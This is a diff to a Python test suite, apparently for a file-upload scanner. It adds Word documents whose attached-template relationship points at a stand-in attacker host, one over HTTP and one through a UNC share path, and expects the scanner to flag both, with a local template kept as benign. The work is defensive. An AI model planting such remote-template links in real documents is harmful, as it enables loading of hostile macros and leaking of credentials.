@@ -198,6 +198,14 @@ def weasyprint_pdf() -> bytes:
     return weasyprint.HTML(string="<h1>Seal log</h1><p>March, 42 seals.</p>").write_pdf()
 
 
+def template_rels(target: bytes) -> dict[str, bytes]:
+    return {
+        "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://'
+        b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="' + target + b'" TargetMode="External"/></Relationships>'
+    }
+
+
 # --- the suites -----------------------------------------------------------------------
 
 MACROS = "macros or ActiveX"
@@ -276,15 +284,13 @@ HOSTILE: list[Sample] = [
     ),
     Sample(
         "remote-template.docx",
-        lambda: with_parts(
-            docx(),
-            {
-                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://'
-                b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-                b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
-            },
-        ),
-        "from the internet",
+        lambda: with_parts(docx(), template_rels(b"http://attacker.example/t.dotm")),
+        "from another computer",
+    ),
+    Sample(
+        "unc-template.docx",
+        lambda: with_parts(docx(), template_rels(b"\\\\attacker.example\\share\\t.dotm")),
+        "from another computer",
     ),
     Sample("zip-bomb.docx", docx_bomb, BOMB),
     Sample(
@@ -425,6 +431,11 @@ NOT_A_PHOTO: list[Sample] = [
 
 BENIGN: list[Sample] = [
     Sample("procedure.docx", docx, ""),
+    Sample(
+        "local-template.docx",
+        lambda: with_parts(docx(), template_rels(b"file:///C:/Users/dispatch/Normal.dotm")),
+        "",
+    ),
     Sample("register.xlsx", xlsx, ""),
     Sample("with-formula.xlsx", lambda: xlsx(formula=True), ""),
     Sample(
